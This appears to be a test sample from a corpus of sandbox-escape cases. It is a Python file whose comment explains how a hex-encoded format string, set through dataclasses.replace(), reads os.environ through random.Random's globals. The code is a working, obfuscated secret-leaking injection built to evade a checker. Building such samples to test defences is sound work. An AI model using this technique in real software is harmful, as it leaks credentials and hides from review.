# family: format
# Escape: dataclasses.replace() builds a new instance through __init__ with keyword arguments, so the trusted
# "class constant" field pattern gets a run-time value without any attribute store in the source. The new value is
# "{0.__init__.__globals__[_os].environ}" (hex-decoded); str.format reads os.environ through random.Random.
import dataclasses
import random


@dataclasses.dataclass(frozen=True)
class Style:
    pattern: str = "[{0}]"

    def apply(self, value) -> str:
        return self.pattern.format(value)


def tool() -> str:
    custom = dataclasses.replace(Style(), pattern=bytes.fromhex("7b302e5f5f696e69745f5f2e5f5f676c6f62616c735f5f5b5f6f735d2e656e7669726f6e7d").decode())
    return custom.apply(random.Random())
